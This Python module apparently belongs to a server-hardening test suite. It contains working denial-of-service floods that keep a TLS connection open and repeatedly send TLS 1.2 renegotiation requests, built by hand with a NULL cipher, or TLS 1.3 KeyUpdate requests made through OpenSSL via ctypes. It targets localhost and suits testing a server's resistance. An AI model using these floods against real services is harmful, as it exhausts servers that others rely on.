"""Clients that have TLS answer them, again and again, and read none of it.

What they ask for no client asks for more than once, so no client can be told to.
"""

from __future__ import annotations

import _ssl
import ctypes
import hmac
import socket
import ssl
import tempfile
from contextlib import suppress
from ctypes import c_char_p, c_int, c_void_p
from functools import cache

from attacks.catalogue import frame
from attacks.target import SOCKET_TIMEOUT, request

NULL = "ECDHE-ECDSA-NULL-SHA"
"""Leaves records as they are, but for a code of 20 bytes, so that they can be made by hand."""

HANDSHAKE, DATA = 22, 23
CLIENT_HELLO = b"\x01\0\0\0"
"""OpenSSL refuses it at its first four bytes."""

AT_ONCE = 500


class Flood:
    """A connection that is open, with buffers of the system as small as they can be."""

    def __init__(self, port: int, path: str) -> None:
        self.sock = socket.socket()
        for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
            self.sock.setsockopt(socket.SOL_SOCKET, option, 4096)
        self.sock.settimeout(SOCKET_TIMEOUT)
        self.sock.connect(("127.0.0.1", port))
        self.begin()
        self.sock.sendall(self.data(request(path, "")))
        assert self.sock.recv(1), "no answer to the request"

    def begin(self) -> None:
        """The handshake of TLS."""
        raise NotImplementedError

    def data(self, data: bytes) -> bytes:
        """It as it is sent."""
        raise NotImplementedError

    def question(self) -> bytes:
        """What TLS answers by itself, in about as many bytes."""
        raise NotImplementedError

    def run(self, most: int) -> int:
        """Ask until the server ends it, or has taken `most` bytes; how many it took.

        A pong among them shows now and then that somebody is there.
        """
        sent = 0
        with suppress(ConnectionError):
            while sent < most:
                data = b"".join(self.question() for _ in range(AT_ONCE)) + self.data(frame(10))
                self.sock.sendall(data)
                sent += len(data)
        return sent

    def close(self) -> None:
        self.sock.close()


class Renegotiations(Flood):
    """Of TLS 1.2: refused by an alert each."""

    def begin(self) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.maximum_version = ssl.TLSVersion.TLSv1_2
        context.set_ciphers(f"{NULL}:@SECLEVEL=0")
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        with tempfile.NamedTemporaryFile() as log:
            context.keylog_filename = log.name
            tls = context.wrap_bio(incoming, outgoing)
            received = b""
            while True:
                with suppress(ssl.SSLWantReadError):
                    tls.do_handshake()
                    break
                self.sock.sendall(outgoing.read())
                data = self.sock.recv(65_536)
                assert data, "the handshake was refused"
                received += data
                incoming.write(data)
            secrets = log.read().decode().split("CLIENT_RANDOM ")[-1].split()
        client_random, master_secret = map(bytes.fromhex, secrets)
        # A record's header, a message's header, a version, and the server's random number.
        server_random = received[11:43]
        seed = b"key expansion" + server_random + client_random
        self._key = expanded(master_secret, seed, 20)
        self._sequence_number = 1  # the handshake's last message was the first

    def data(self, data: bytes) -> bytes:
        return self._record(DATA, data)

    def question(self) -> bytes:
        return self._record(HANDSHAKE, CLIENT_HELLO)

    def _record(self, kind: int, content: bytes) -> bytes:
        """RFC 5246 section 6.2.3.1."""
        header = bytes((kind, 3, 3))
        signed = self._sequence_number.to_bytes(8, "big") + header + len(content).to_bytes(2, "big") + content
        self._sequence_number += 1
        code = hmac.digest(self._key, signed, "sha1")
        return header + (len(content) + len(code)).to_bytes(2, "big") + content + code


def expanded(secret: bytes, seed: bytes, size: int) -> bytes:
    """RFC 5246 section 5: P_SHA256, of which one block is enough."""
    first = hmac.digest(secret, seed, "sha256")
    return hmac.digest(secret, first + seed, "sha256")[:size]


class KeyUpdates(Flood):
    """Of TLS 1.3, each of which wants one in return (RFC 8446 section 4.6.3)."""

    def begin(self) -> None:
        library = openssl()
        context = library.SSL_CTX_new(library.TLS_client_method())
        self._tls = library.SSL_new(context)
        self._incoming, self._outgoing = (library.BIO_new(library.BIO_s_mem()) for _ in range(2))
        library.SSL_set_bio(self._tls, self._incoming, self._outgoing)
        while library.SSL_connect(self._tls) != 1:
            self.sock.sendall(self._taken())
            data = self.sock.recv(65_536)
            assert data and library.BIO_write(self._incoming, data, len(data)) == len(data)
        self.sock.sendall(self._taken())
        assert library.SSL_get_version(self._tls) == b"TLSv1.3"

    def data(self, data: bytes) -> bytes:
        assert openssl().SSL_write(self._tls, data, len(data)) == len(data)
        return self._taken()

    def question(self) -> bytes:
        library = openssl()
        assert library.SSL_key_update(self._tls, 1) == 1
        assert library.SSL_do_handshake(self._tls) == 1
        return self._taken()

    def _taken(self) -> bytes:
        buffer = ctypes.create_string_buffer(4096)
        size = openssl().BIO_read(self._outgoing, buffer, len(buffer))
        return buffer.raw[: max(size, 0)]


@cache
def openssl() -> ctypes.CDLL:
    """The library that `ssl` uses, which has no name there for an update of keys."""
    library = ctypes.CDLL(_ssl.__file__)
    signatures = {
        "TLS_client_method": (c_void_p,),
        "SSL_CTX_new": (c_void_p, c_void_p),
        "SSL_new": (c_void_p, c_void_p),
        "BIO_s_mem": (c_void_p,),
        "BIO_new": (c_void_p, c_void_p),
        "BIO_read": (c_int, c_void_p, c_char_p, c_int),
        "BIO_write": (c_int, c_void_p, c_char_p, c_int),
        "SSL_set_bio": (None, c_void_p, c_void_p, c_void_p),
        "SSL_connect": (c_int, c_void_p),
        "SSL_get_version": (c_char_p, c_void_p),
        "SSL_write": (c_int, c_void_p, c_char_p, c_int),
        "SSL_key_update": (c_int, c_void_p, c_int),
        "SSL_do_handshake": (c_int, c_void_p),
    }
    for name, (result, *arguments) in signatures.items():
        function = getattr(library, name)
        function.restype, function.argtypes = result, arguments
    return library
